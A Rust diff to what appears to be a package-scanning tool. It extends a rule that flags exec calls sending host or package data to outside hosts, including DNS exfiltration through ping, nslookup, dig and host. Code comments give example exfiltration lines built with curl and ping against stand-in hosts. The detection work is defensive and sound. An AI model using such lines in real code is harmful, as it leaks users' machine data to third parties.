@@ -235,11 +235,22 @@ pub(crate) fn from_graph(graph: &Graph<'_>) -> Vec<Capability> {
                 }
                 // A command line assembled from a network tool, host data and a
                 // host: `exec('curl -d ' + os.hostname() + ' https://…')`.
+                // `spawn('ping', [data + '.x.example'])`: the tool is the command.
+                let tool = site
+                    .constant
+                    .as_deref()
+                    .and_then(|command| command.split_whitespace().next())
+                    .map(|program| program.rsplit(['/', '\\']).next().unwrap_or(program));
+                let network_tool = match tool {
+                    Some(program) => literals::network_tool(program),
+                    None => mask.has(Kind::NetworkTool),
+                };
+                let dns_tool = tool
+                    .is_some_and(|program| matches!(program, "ping" | "nslookup" | "dig" | "host"));
                 if site.kind == SinkKind::Exec
-                    && site.constant.is_none()
-                    && mask.has(Kind::NetworkTool)
-                    && data.any(HOST_DATA)
-                    && hosts.any(FOREIGN_HOSTS)
+                    && network_tool
+                    && data.any(HOST_DATA.union(Kind::PackageMeta.bit()))
+                    && hosts.any(FOREIGN_HOSTS.union(Kind::HostLocal.bit()))
                 {
                     let host = destination(graph, &reached, hosts);
                     let trail = trail_to(graph, &reached, data, host.as_ref());
@@ -247,7 +258,11 @@ pub(crate) fn from_graph(graph: &Graph<'_>) -> Vec<Capability> {
                         Ability::Sends {
                             data,
                             hosts,
-                            via: SinkKind::Exec,
+                            via: if dns_tool {
+                                SinkKind::Dns
+                            } else {
+                                SinkKind::Exec
+                            },
                             host,
                         },
                         trail,
@@ -432,6 +447,7 @@ pub(crate) fn describe_data(data: Mask) -> String {
 pub(crate) fn from_executables(
     archive: &crate::archive::Archive,
     manifest: &crate::manifest::Manifest,
+    graph: &Graph<'_>,
     install_strings: &[&str],
     import_strings: &[&str],
 ) -> Vec<Capability> {
@@ -474,9 +490,25 @@ pub(crate) fn from_executables(
                     .iter()
                     .any(|text| text.contains(name) || text.contains(entry.path.as_str()))
         };
-        // Imported code that names an executable usually runs it on request
-        // (a clipboard helper, an SSH agent): when its function is called.
-        let stage = if named(install_strings) {
+        // A process started with its name: when that command runs.
+        let started = graph
+            .sinks()
+            .filter(|reached| reached.site.kind == SinkKind::Exec)
+            .filter(|reached| {
+                reached.site.snippet.contains(name)
+                    || reached
+                        .site
+                        .constant
+                        .as_deref()
+                        .is_some_and(|command| command.contains(name))
+            })
+            .map(|reached| Stage::of(reached.reach, reached.site.in_function))
+            .max();
+        // Imported code that names an executable otherwise usually runs it on
+        // request (a clipboard helper, an SSH agent): when its function is called.
+        let stage = if let Some(stage) = started.filter(|_| name.len() >= 3) {
+            stage
+        } else if named(install_strings) {
             Stage::Install
         } else if named(import_strings) {
             Stage::Call
